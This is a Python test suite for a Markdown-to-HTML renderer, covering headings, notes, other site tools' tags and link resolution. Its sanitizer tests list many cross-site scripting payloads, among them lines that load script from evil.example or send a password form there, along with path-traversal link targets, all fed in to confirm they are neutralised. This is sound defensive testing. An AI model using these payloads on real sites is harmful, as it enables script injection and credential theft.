"""Markdown to a safe page: what readers see, what is indexed, and what can never get through."""

import re
from html.parser import HTMLParser

import paths
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kb.content import markup
from kb.content.folder import scan
from kb.content.markup import Link, cleaning
from kb.content.markup.link_targets import resolve

SHARED = paths.SHARED / "articles"
needs_shared = pytest.mark.skipif(not SHARED.is_dir(), reason=f"no shared articles in {SHARED}")


def render(body, path="ru/account/reset.md", lang="ru", **more):
    return markup.render(body, path=path, lang=lang, **more)


def page(body, **more):
    return render(body, **more).html


# --- headings and sections ----------------------------------------------------------------------


def test_sections_carry_anchor_title_level_and_plain_text():
    found = render(
        "Начало.\n\n## Если VPN\n\nОткройте *меню*.\n\n- раз\n- два\n\n### Дальше\n\nТекст."
    )

    assert [(s.anchor, s.title, s.level, s.text) for s in found.sections] == [
        ("", "", 0, "Начало."),
        ("h-если-vpn", "Если VPN", 2, "Откройте меню.\nраз;\nдва."),
        ("h-дальше", "Дальше", 3, "Текст."),
    ]
    assert found.text == "Начало.\n\nОткройте меню.\nраз;\nдва.\n\nТекст."


def test_every_section_has_its_anchor_on_the_page():
    found = render("## Шаг\n\na\n\n## Шаг\n\nb\n\n## !!!\n\nc")

    assert [s.anchor for s in found.sections] == ["h-шаг", "h-шаг-1", "h-section"]
    assert all(f'id="{s.anchor}"' in found.html for s in found.sections)
    assert set(found.anchors) == {"h-шаг", "h-шаг-1", "h-section"}


def test_a_heading_links_to_itself_in_the_articles_language():
    assert 'aria-label="Ссылка на раздел «Шаг»">#</a>Шаг</h2>' in page("## Шаг")
    assert 'aria-label="Link to the section “Step”">#</a>Step</h2>' in page("## Step", lang="en")
    assert 'href="#h-%D1%88%D0%B0%D0%B3"' in page("## Шаг")


def test_the_page_has_one_h1_and_that_is_the_title():
    body = "# Сброс  **пароля**\n\nТекст.\n\n# Второй\n\n## Третий"

    html = page(body, title="Сброс пароля")

    assert "Сброс" not in html
    assert "<h1" not in html
    assert '<h2 id="h-второй">' in html
    assert '<h3 id="h-третий">' in html


def test_levels_stay_where_no_h1_is_left():
    assert '<h2 id="h-x">' in page("# T\n\n## x", title="T")
    assert "<h1" not in page("<h1>raw</h1>\n\ntext")


def test_written_anchors_keep_working():
    html = page('## <a name="old-name"></a>Новое имя\n\n[туда](#old-name)\n\n## Ещё {#custom}')

    assert '<a id="h-old-name"></a>Новое имя</h2>' in html
    assert 'href="#h-old-name"' in html
    assert '<h2 id="h-custom"><a class="anchor"' in html


def test_a_written_anchor_equal_to_the_headings_own_is_one_anchor():
    html = page('## <a name="sharing"></a>Sharing')

    assert html.count('id="h-sharing"') == 1
    assert '<h2 id="h-sharing">' in html


def test_text_of_cells_is_apart_and_of_code_is_kept():
    found = render(
        "| а | б |\n|---|---|\n| в | г |\n\n```bash\nkb index\n```\n\n<script>x()</script>"
    )

    assert found.text == "а · б\nв · г\nkb index"


@pytest.mark.parametrize(
    ("body", "text"),
    [
        ("- раз\n- два", "раз;\nдва."),
        ("1. Раз!\n2. Два?", "Раз!\nДва?"),
        ("- раз:\n  - «два»\n  - три\n- четыре", "раз:\n«два»;\nтри.\nчетыре."),
        ("- раз\n\n  ```\n  kb index\n  ```\n- `kb`", "раз\nkb index\nkb."),
        ("- \n- раз", "раз."),
        ("|а||б|\n|-|-|-|\n||в||", "а · б\nв"),
        ("## Раз\n\n- два\n\n## Три\n\n- четыре", "два.\n\nчетыре."),
    ],
)
def test_lists_and_tables_read_well_on_one_line(body, text):
    assert render(body).text == text


def test_text_has_no_soft_hyphens_and_no_footnote_numbers():
    found = render("Па\u00adроль[^1] готов.\n\n[^1]: Сноска.")

    assert found.text == "Пароль готов.\nСноска."


def test_the_summary_is_the_first_paragraph():
    found = render("> [!NOTE]\n> Сначала.\n\n![x](a.png)\n\nПервый *абзац*.\n\nВторой.")
    long = render("слово " * 200)

    assert found.summary == "Первый абзац."
    assert len(long.summary) <= 300
    assert long.summary.endswith("слово…")


# --- what people write --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        "> [!NOTE]\n> Текст *тут*",
        "> [!note]\n>\n> Текст *тут*",
        "!!! note\n    Текст *тут*",
        ":::note\nТекст *тут*\n:::",
        "::: note\n\nТекст *тут*\n\n:::",
        "??? note\n    Текст *тут*",
        "???+ note\n\n    Текст *тут*",
        "!!! note inline end\n    Текст *тут*",
        ":::secondary\nТекст *тут*\n:::",
        "{{< hint note >}}\nТекст *тут*\n{{< /hint >}}",
        "{{% notice note %}}Текст *тут*{{% /notice %}}",
        '{{< alert color="primary" >}}\n\nТекст *тут*\n\n{{< /alert >}}',
        "{{< callout type=note >}}\nТекст *тут*\n{{</ callout >}}",
        "{{< note >}}\nТекст *тут*\n{{< /note >}}",
        "{: .note }\nТекст *тут*",
        "Текст *тут*\n{: .note}",
        "{: .note }\n> Текст *тут*",
        '<div class="admonition note"><p class="admonition-title">Note</p>'
        "<p>Текст <em>тут</em></p></div>",
    ],
)
def test_every_spelling_of_a_note_is_the_same_note(body):
    html = page(body).replace("\n", "")

    assert html == (
        '<div class="admonition note" role="note"><p class="admonition-title">Примечание</p>'
        "<p>Текст <em>тут</em></p></div>"
    )
    assert '<p class="admonition-title">Note</p>' in page(body, lang="en")


def test_a_note_may_have_a_title_of_its_own():
    assert '<p class="admonition-title">Мой «титул»</p>' in page('!!! tip "Мой «титул»"\n    x')
    assert '<p class="admonition-title">Мой титул</p>' in page(":::tip Мой титул\nx\n:::")
    assert '<p class="admonition-title">Мой титул</p>' in page(":::tip[Мой титул]\nx\n:::")
    assert '<p class="admonition-title">Мой титул</p>' in page('??? tip "Мой титул"\n    x')
    for tag in ('notice tip "Мой титул"', 'alert color="tip" title="Мой титул"'):
        body = f"{{{{% {tag} %}}}}\nx\n{{{{% /{tag.split()[0]} %}}}}"
        assert '<p class="admonition-title">Мой титул</p>' in page(body)
    assert '<p class="admonition-title">Мой титул</p>' in page("{: .tip-title }\n> Мой титул\n> x")


def test_other_names_of_kinds_are_those_kinds():
    html = page("!!! tldr\n    a\n\n> [!FAQ]\n> b\n\n:::fail\nc\n:::")

    assert all(f'admonition {kind}"' in html for kind in ("abstract", "question", "failure"))
    assert "Кратко" in html


def test_a_note_that_is_never_closed_is_none():
    assert page("{{< hint info >}}\n\nтекст") == "<p>текст</p>"


def test_neighbouring_notes_are_two_notes():
    html = page("> [!NOTE]\n> a\n\n> [!TIP]\n> b")

    assert html.count("<div") == html.count("</div>") == 2
    assert "Примечание" in html
    assert "Совет" in html


def test_an_ordinary_quotation_stays_one():
    assert page("> слова\n> [!ЧТО]") == "<blockquote>\n<p>слова\n[!ЧТО]</p>\n</blockquote>"


def test_tasks_are_boxes_nobody_can_tick():
    html = page("- [ ] сделать\n- [x] готово\n- [y] нет")

    assert html.count('<input type="checkbox" disabled aria-label="не сделано">') == 1
    assert html.count('<input type="checkbox" disabled checked aria-label="сделано">') == 1
    assert "[y] нет" in html
    assert "[ ]" not in render("- [ ] сделать").text


def test_columns_keep_their_side_without_style():
    html = page("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |")

    assert '<td align="left">1</td>' in html
    assert '<td align="center">2</td>' in html
    assert '<td align="right">3</td>' in html
    assert "style" not in html


def test_code_is_coloured_by_classes():
    html = page('```python title="x.py" {1,3}\ndef f(): ...\n```')

    assert '<div class="highlight">' in html
    assert '<span class="k">def</span>' in html
    assert "style" not in html
    assert "x.py" not in html


def test_code_in_an_unknown_language_is_still_code():
    assert "<code>a &lt; b\n</code>" in page("```nosuch\na < b\n```")


def test_strikethrough_definitions_footnotes_and_bare_addresses():
    assert "<del>нет</del>" in page("~~нет~~")
    assert "<dt>Слово</dt>\n<dd>Смысл</dd>" in page("Слово\n:   Смысл")
    assert 'aria-label="Назад к тексту">↩</a>' in page("x[^1]\n\n[^1]: y")
    assert page("см. https://example.com/a?b=1&c=2, да") == (
        '<p>см. <a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer">'
        "https://example.com/a?b=1&amp;c=2</a>, да</p>"
    )
    assert "<a " not in page("`https://example.com`")


def test_lists_need_neither_four_columns_nor_an_empty_line():
    body = (
        "Сделайте:\n- раз\n  - два\n    - три\n- четыре\n\n"
        "1. a\n   ```sh\n   ls\n   ```\n2. b\n   c\n3. d"
    )

    html = page(body).replace("\n", "")

    assert html.startswith(
        "<p>Сделайте:</p><ul><li>раз<ul><li>два<ul><li>три</li></ul></li></ul></li><li>четыре</li></ul>"
    )
    assert html.count("<ol>") == 1
    assert html.count("<li>") == 7


def test_a_table_or_a_quotation_needs_no_empty_line():
    assert "<table>" in page("Цены\n| a | b |\n|---|---|\n| 1 | 2 |")
    assert "<blockquote>" in page("- пункт\n  > цитата")


def test_a_year_at_the_start_of_a_line_is_no_list():
    assert page("Это было в\n2020. Точка.") == "<p>Это было в\n2020. Точка.</p>"
    assert page("#хештег") == "<p>#хештег</p>"


def test_an_unclosed_fence_reaches_to_the_end():
    assert "<code>a\n\nb\n</code>" in page("```\na\n\nb")


def test_what_other_systems_write_does_not_look_broken():
    html = page(
        "[!INCLUDE[prod_short](includes/prod_short.md)] хранит\n\n"
        "[!INCLUDE[footer](includes/footer.md)]\n\n"
        ':::image type="content" source="media/a.png" alt-text="Снимок":::\n\n'
        "> [!VIDEO https://example.com/v]\n\n"
        "Текст{: .lead}\n{: .note}\n\n:::row:::\n:::column:::\nкол\n:::column-end:::\n:::row-end:::"
    )

    assert "<p>prod_short хранит</p>" in html
    assert "footer" not in html
    assert '<img src="/media/ru/account/media/a.png" alt="Снимок" loading="lazy">' in html
    assert '<a href="https://example.com/v" rel="noopener noreferrer">Видео</a>' in html
    assert ":::" not in html
    assert "[!" not in html
    assert "{: .note" not in html


def test_emphasis_is_written_with_stars_or_underscores():
    assert page("_a_ __b__ *c* **d** ***e*** a_b_c") == (
        "<p><em>a</em> <strong>b</strong> <em>c</em> <strong>d</strong>"
        " <em><strong>e</strong></em> a_b_c</p>"
    )


@pytest.mark.parametrize(
    ("body", "html"),
    [
        ("## Rust vs C#", "Rust vs C#</h2>"),
        ("one\\\ntwo", "<p>one<br>\ntwo</p>"),
        ("> [!TIP]\n> a\n\n> b", "</div>\n<blockquote>\n<p>b</p>"),
        ("<details>\n<summary>S</summary>\n\n- *x*\n\n</details>", "<li><em>x</em></li>"),
        ("<aside>\nA *lamp*\n\n- x\n</aside>", "<p>A <em>lamp</em></p>"),
        ("<div>\n\n|a|\n|-|\n|b|\n\n</div>", "<td>b</td>"),
        ("<div markdown='1'>\n*x*\n</div>\n```\n*y*\n```", "<code>*y*\n</code>"),
        ("<details>\n<summary>\nS\n</summary>\n- *x*\n</details>", "<li><em>x</em>"),
        ("<div>\n\nthe `<head>` here\n\n</div>", "the <code>&lt;head&gt;</code> here"),
        ("[a](b.md){ .button } `c`{.x} *d*{#e}", ">a</a> <code>c</code> <em>d</em></p>"),
        ("![a](b.png){ width=300 .x }", 'alt="a" width="300"'),
        ("Text\n{: .lead #top }", '<p id="h-top">Text</p>'),
        ("{: .tip-title }\n> *One*\n> two", '<p class="admonition-title"><em>One</em></p>'),
        ("write `{: .note }` so", "<p>write <code>{: .note }</code> so</p>"),
        ("One\n{: .a }\nTwo\n{: .b }\nThree", "<p>One</p>\n<p>Two</p>\n<p>Three</p>"),
        ("<span>New</span>{: .label }", "<p><span>New</span></p>"),
        ("> done\n{.is-success}", '<div class="admonition success" role="note">'),
        ("The HTML\n\n*[HTML]: a *b*", '<p>The <abbr title="a *b*">HTML</abbr></p>'),
        ("*[HTML]: x\n`HTML`", "<p><code>HTML</code></p>"),
        ("[TOC]\n\ntext", "<p>text</p>"),
    ],
)
def test_markdown_reads_as_on_github(body, html):
    assert html in page(body)


def test_the_word_import_among_words_is_no_search_without_end():
    body = "first\nimport one template\nfrom within another. " + "It is a file\n" * 400

    assert "import one template" in page(body)


@pytest.mark.parametrize(
    ("body", "title", "text"),
    [
        ("> [!lamp] Bright\n> text", "Bright", "text"),
        ("> [!tip]- My *title*\n> text", "My title", "text"),
        ("> [!lamp]\n> text", "Lamp", "text"),
    ],
)
def test_callouts_of_obsidian_have_titles_of_their_own(body, title, text):
    found = render(body, dialect="obsidian")

    assert found.text == f"{title}\n{text}"
    assert '<div class="admonition' in found.html


@pytest.mark.parametrize(
    ("body", "html"),
    [
        ('<iframe src="https://rutube.ru/x"></iframe>', '<a href="https://rutube.ru/x" rel='),
        ('<iframe src="https://rutube.ru/x"></iframe>', ">Видео</a>"),
        ('<iframe title="Карта" src="https://maps.example/x"></iframe>', ">Карта</a>"),
        ('<iframe src="https://maps.example/x"></iframe>', ">Встроенная страница</a>"),
        ('<video controls><source src="a.mp4"></video>', '<a href="/media/ru/account/a.mp4">Видео'),
        ('<iframe src="//www.youtube.com/embed/abc?x=1"></iframe>', "youtube.com/watch?v=abc"),
        ("<svg><title>Лампа</title><path d='x'/></svg>", "Лампа"),
        ("```mermaid\ngraph TD\n```", "<p><em>Схема, показана её запись:</em></p>"),
    ],
)
def test_what_a_page_cannot_show_is_a_link_or_its_words_and_is_told(body, html):
    assert html in page(body)
    assert markup.unknown_tags(body, "")


# --- other tools' tags --------------------------------------------------------------------------

HUGO = """{{< youtube abc >}}

[x]({{< ref "c.md#z" >}}) {{< foo bar="1" >}}in{{< /foo >}}

{{< figure src="a.png" alt="A" >}}

{{< tabs "u" >}}{{< tab "Mac" >}}mac{{< /tab >}}{{< /tabs >}}

{{< highlight go >}}
x {{< y >}}
{{< /highlight >}}

`{{< code >}}` {{</* foo */>}}
"""
JEKYLL = """{% include note.html content="Hello" %}

[a]({% link b/c.md %}) [z]({{ site.baseurl }}/z/) [u]({{ "/u/x.html" | relative_url }}) {{ site.x }}

{% raw %}{{ y }} {% z %}{% endraw %}{% comment %}secret
{% endcomment %}

{% for x in y %}item{% endfor %}

{% highlight ruby %}
puts {% 1 %}
{% endhighlight %}
"""
DOCUSAURUS = """import X from "y";
import {A, B} from '../z';

<Tabs>
<TabItem value="m" label="Mac">

mac

</TabItem>
</Tabs>

<Chart a="b" />text{/* secret */} {/* secret
```
secret */}

```js
import X from "y"; {{/* a */}} {/* b */}
<Chart />
```

`{{/* c */}}`
"""
MKDOCS = """=== "C"

    ```c
    === "no tab"
    ```

=== "D"

    Text :material-home:

    === "E"

        deep

--8<-- "a.md"

{{ macro() }}
"""


def words(body, dialect):
    return " ".join(render(body, path="a/b.md", lang="en", dialect=dialect).text.split())


def test_tags_of_hugo_have_a_meaning():
    html = page(HUGO, path="a/b.md", lang="en", dialect="hugo")

    assert '<a href="https://www.youtube.com/watch?v=abc"' in html
    assert '<a href="/articles/a/c#h-z">x</a> in' in html
    assert '<img src="/media/a/a.png" alt="A"' in html
    assert "<strong>Mac</strong>" in html
    assert words(HUGO, "hugo") == "Video x in Mac mac x {{< y >}} {{< code >}} {{< foo >}}"
    assert markup.unknown_tags(HUGO, "hugo") == [("{{< foo >}}", 3)]


def test_tags_of_jekyll_have_a_meaning():
    html = page(JEKYLL, path="a/b.md", lang="en", dialect="jekyll")

    assert '<div class="admonition note" role="note">' in html
    assert all(f'href="/articles/{to}"' in html for to in ("b/c", "z", "u/x"))
    assert 'href="/media/a/x.html"' in page("[x](x.html)", path="a/b.md")
    assert words(JEKYLL, "jekyll") == "Hello a z u {{ y }} {% z %} item puts {% 1 %}"
    assert markup.unknown_tags(JEKYLL, "jekyll") == [("{{ site.x }}", 3), ("{% for %}", 8)]


@pytest.mark.parametrize(
    ("tag", "path", "dialect", "url"),
    [
        ("{% link _en/a.md %}", "content/_en/b/c.md", "jekyll", "/articles/content/_en/a"),
        ("{% link a.md %}", "content/_en/b/c.md", "jekyll", "/articles/a"),
        ("{% post_url 2026-01-02-x %}", "b.md", "jekyll", "/articles/_posts/2026-01-02-x"),
        ('{{< relref "/docs/a.md" >}}', "site/docs/b.md", "hugo", "/articles/site/docs/a"),
        ('{{< ref path="../a.md" >}}', "docs/x/b.md", "hugo", "/articles/docs/a"),
    ],
)
def test_an_address_from_the_root_finds_the_tools_root(tag, path, dialect, url):
    assert f'href="{url}"' in page(f"[x]({tag})", path=path, dialect=dialect)


@pytest.mark.parametrize(
    ("body", "dialect", "text"),
    [
        ("a {% raw %}{% if %} b", "jekyll", "a {% if %} b"),
        ("a {% comment %} b\n\n{% endraw %} c", "jekyll", "a"),
        ("a {% endcomment %} b {% endraw %} c", "jekyll", "a b c"),
        ("{% raw %}\n```\n{% if %}\n```\n{% endraw %}\n\n{% if %}b", "jekyll", "{% if %} b"),
        ("a {/* b\n\nc", "docusaurus", "a c"),
        ("a\n\n{% highlight x %}\nb", "jekyll", "a b"),
        ("{{< note >}}a{{< note >}}b{{< /note >}}c", "hugo", "ab c"),
        ("{{< /note >}}a{{< /x >}}", "hugo", "a"),
    ],
)
def test_tags_that_do_not_match_cost_no_text(body, dialect, text):
    assert words(body, dialect) == text


def test_components_of_docusaurus_leave_their_text():
    assert words(DOCUSAURUS, "docusaurus") == (
        'Mac mac text import X from "y"; {{/* a */}} {/* b */} <Chart /> {{/* c */}}'
    )
    assert markup.unknown_tags(DOCUSAURUS, "docusaurus") == [("<Chart>", 12)]


def test_tabs_of_mkdocs_are_read_one_after_another():
    html = page(MKDOCS, path="a/b.md", lang="en", dialect="mkdocs")

    assert [f"<strong>{name}</strong>" in html for name in "CDE"] == [True] * 3
    assert "<p>deep</p>" in html
    assert words(MKDOCS, "mkdocs") == 'C === "no tab" D Text E deep'
    assert markup.unknown_tags(MKDOCS, "mkdocs") == [("--8<--", 15), ("{{ macro }}", 17)]


@pytest.mark.parametrize("tag", ["{{< foo 1 >}}", "{% for x in y %}", "{{ site.x }}", ":::foo\n"])
def test_no_folder_shows_tags_that_are_not_understood(tag):
    found = render(f"a\n\n{tag}\n\n`b` {tag if tag[0] == '{' else ''} c")

    assert tag.strip() not in found.html.replace(f"<code>{tag}</code>", "")
    assert found.text.startswith("a")
    assert found.text.endswith("c")
    assert markup.unknown_tags(f"a\n\n{tag}", "")


def test_tags_in_code_are_code():
    fences = "```\n:::foo\n{{ x }}\n[[a]]\n```\n\n- ~~~\n  {% if %}\n  ~~~"
    body = "`{{< foo >}}` ``{% if %} ` ``\n\n" + fences

    assert markup.unknown_tags(body, "") == []
    for tag in ("{{&lt; foo &gt;}}", "{% if %} `", ":::foo", "{{ x }}", "[[a]]"):
        assert tag in page(body)


# --- addresses ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("target", "url"),
    [
        ("../foo.md#Бар", "/articles/ru/foo#h-%D0%B1%D0%B0%D1%80"),
        ("foo.md", "/articles/ru/account/foo"),
        ("./foo.markdown?x=1", "/articles/ru/account/foo"),
        ("foo", "/articles/ru/account/foo"),
        ("sub/", "/articles/ru/account/sub"),
        ("/en/foo.md", "/articles/en/foo"),
        ("Мой%20вход.md", "/articles/ru/account/%D0%9C%D0%BE%D0%B9%20%D0%B2%D1%85%D0%BE%D0%B4"),
        ("100%.md", "/articles/ru/account/100%25"),
        ("a%3Fb.md", "/articles/ru/account/a%3Fb"),
        ("release-2.5", "/articles/ru/account/release-2.5"),
        ("img/a.png", "/media/ru/account/img/a.png"),
        ("price.pdf#page=2", "/media/ru/account/price.pdf"),
        ("#Some--Heading", "#h-some-heading"),
        ("#", "#"),
        ("/", "/"),
        ("/contact?q=a%20b", "/contact?q=a%20b"),
        ("/articles/ru/x#h-y", "/articles/ru/x#h-y"),
        ("https://example.com/a", "https://example.com/a"),
        ("//example.com/a", "https://example.com/a"),
        ("\\\\example.com\\a", ""),
        ("mailto:help@example.com", "mailto:help@example.com"),
        ("tel:+74951234567", "tel:+74951234567"),
        ("../../../etc/passwd", "/articles/etc/passwd"),  # of the site, and no file
        ("..\\..\\..\\etc\\passwd", "/articles/etc/passwd"),
        ("%2e%2e/%2e%2e/%2e%2e/x.md", "/articles/x"),
        ("javascript:alert(1)", ""),
        ("data:text/html,x", ""),
        ("file:///etc/passwd", ""),
        ("vbscript:x", ""),
    ],
)  # fmt: skip
def test_where_a_link_leads(target, url):
    assert resolve(target, "ru/account/reset.md") == url


def test_links_are_listed_as_written_with_their_lines():
    found = render("[a](foo.md)\n\n[b](../../../x.md) и\n![Вид](img/a.png)\n\n[a](foo.md)")

    assert found.links == (
        Link("foo.md", 1, url="/articles/ru/account/foo"),
        Link("../../../x.md", 3, url="/articles/x"),
        Link("img/a.png", 4, True, "Вид", "/media/ru/account/img/a.png"),
        Link("foo.md", 6, url="/articles/ru/account/foo"),
    )


def test_other_sites_get_no_referrer_and_no_opener():
    assert 'href="https://example.com" rel="noopener noreferrer"' in page(
        "[x](https://example.com)"
    )
    assert "rel=" not in page("[x](foo.md)")


def test_an_image_of_another_host_is_a_link_unless_allowed():
    body = "![Схема](https://example.com/a.png)"

    assert page(body) == (
        '<p><a href="https://example.com/a.png" rel="noopener noreferrer">Схема</a></p>'
    )
    assert '<img src="https://example.com/a.png" alt="Схема"' in page(body, remote_images=True)
    assert "<img" not in page("[![Схема](https://example.com/a.png)](https://example.com)")


# --- nothing active -----------------------------------------------------------------------------

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    '<img src="x" onerror="alert(1)" />',
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style=\"position:fixed;inset:0\" class=\"site-header\">x</div>",
    "<form action=//evil.example><input name=password><button>go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#09;script:alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href='&#0000106&#0000097vascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='//evil.example' onclick=alert(1) target=_blank>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1))",
    "[x](\\x6aavascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](a.png)",
    "![x](a.png\"onerror=\"alert(1))",
    "![x](a.png 'a\" onerror=\"alert(1)')",
    "[x](foo.md 'a\" onclick=\"alert(1)')",
    "[x](foo.md#\"onclick=alert(1)//)",
    "[x](\"><script>alert(1)</script>.md)",
    "# <script>alert(1)</script> x",
    "## x\" onclick=\"alert(1)",
    "## <img src=x onerror=alert(1)>",
    "## x {#a\"onclick=alert(1)}",
    "## x { onclick=alert(1) }",
    "x\n{: onclick='alert(1)' style='x'}",
    "<h2 id='x\" onclick=\"alert(1)'>x</h2>",
    "<a name='x\" onclick=\"alert(1)'></a>",
    "<p id='location' name=x>clobber</p>",
    "<a id=documentElement></a>",
    "```html\n<script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "``` { .js onclick=alert(1) }\nx\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "> [!NOTE\"><script>alert(1)</script>]\n> x",
    "> [!NOTE]\n> <img src=x onerror=alert(1)>",
    "!!! note \"<img src=x onerror=alert(1)>\"\n    x",
    "!!! note\" onclick=\"alert(1)\n    x",
    ":::note <img src=x onerror=alert(1)>\nx\n:::",
    ":::image source=\"javascript:alert(1)\" alt-text=\"x\":::",
    ":::image source=\"a.png\" alt-text=\"](javascript:alert(1))\":::",
    "[!VIDEO https://x.example/\"onclick=alert(1)]",
    "[!INCLUDE[<img src=x onerror=alert(1)>](x.md)]",
    "| <script>alert(1)</script> | x |\n|:-\"onclick=alert(1)-|---|\n| a | b |",
    "[^1]: <script>alert(1)</script>\n\nx[^1]",
    "[^\"onclick=alert(1)]: x\n\nx[^\"onclick=alert(1)]",
    "https://example.com/\"onmouseover=alert(1)",
    "https://example.com/<script>alert(1)</script>",
    "https://example.com/'onclick='alert(1)",
    "<https://example.com/\"onclick=\"alert(1)>",
    "- [x] <script>alert(1)</script>",
    "<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<x onclick=alert(1) tabindex=1>x</x>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<a href=\"x\" <script>alert(1)</script>>",
    "<<script>alert(1);//<</script>",
    "<img src=\"{useBaseUrl('javascript:alert(1)')}\">",
    "<img src={useBaseUrl('//evil.example/x.png')} onerror=alert(1)>",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
    "\x02klzzwxh:0000\x03",
    "STX<script>alert(1)</script>ETX",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "<a\x00href=javascript:alert(1)>x</a>",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
]  # fmt: skip


def named(written):
    return set(written.split())


TAGS = named("""
    a abbr b blockquote br caption cite code col colgroup dd del details dfn div dl dt
    em figcaption figure h2 h3 h4 h5 h6 hr i img input ins kbd li mark ol p pre q s samp
    small span strong sub summary sup table tbody td tfoot th thead tr u ul var wbr
""")
ATTRIBUTES = named("""
    align alt aria-label checked class colspan dir disabled height href id lang loading
    open referrerpolicy rel reversed role rowspan scope span src start title type width
""")
CLASSES = {"anchor", "task"}.union(*cleaning.CLASSES.values())


class Auditor(HTMLParser):
    """Every tag and attribute of a page against what a page may hold."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        if tag not in TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if name not in ATTRIBUTES:
                self.found.append(f"<{tag} {name}>")
            if name in ("href", "src") and not value.startswith(
                ("/", "#", "https://", "http://", "mailto:", "tel:")
            ):
                self.found.append(f"<{tag} {name}={value!r}>")
            if name in ("href", "src") and value.startswith(("//", "/\\")):
                self.found.append(f"<{tag} {name}={value!r}>")
            if name == "id" and not value.startswith("h-"):
                self.found.append(f"<{tag} id={value!r}>")
            if name == "class" and not set(value.split()) <= CLASSES:
                self.found.append(f"<{tag} class={value!r}>")
        if tag == "input" and dict(attrs).get("type") != "checkbox":
            self.found.append("<input>")

    def handle_comment(self, data):
        self.found.append(f"<!--{data}-->")

    def handle_decl(self, decl):
        self.found.append(decl)

    handle_pi = unknown_decl = handle_decl


def active(html):
    auditor = Auditor()
    auditor.feed(html)
    auditor.close()
    return auditor.found


TAGS_OF_TOOLS = """{{< hint info >}}|{{< /hint >}}|{{% notice tip "x %}}|{{% /notice %}}|{{< a
{{</|}}|%}}|{%|{% raw %}|{% endraw %}|{% highlight x %}|{% endhighlight %}|{: .note }|>|
{: .tip-title}|<Tabs>|<TabItem|</TabItem>|{/*|*/}|=== "x"|???|!!!|note|:::|:::tip[x]|
{{ "a" }}|{{ '/a' | relative_url }}|```|`|-|1.|<script>x()</script>|<img src=x onerror=y>|"><b>|
text|--8<--|import "x"|{% hint style="x<" %}|{% endhint %}|#\\||\\|\\||\\|#|[[a\\|<b>]]|%%|==|
<svg>|{{ x }}|<iframe src=javascript:x>|{% cut "<i>" %}|<A b={<c>}>|
{{% details "<x>" %}}|{.is-info}|*[a]: <b>|
{{< ref "javascript:x" >}}|[a](|)|{{< figure src="javascript:x" alt="<b" >}}
"""


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.tuples(
            st.sampled_from(re.split(r"(?<!\\)\|", TAGS_OF_TOOLS)),
            st.sampled_from([" ", "\n", "\n\n", "\n    "]),
        ),
        max_size=14,
    ),
    st.sampled_from(["", "diplodoc", "docusaurus", "hugo", "jekyll", "mkdocs", "obsidian"]),
)
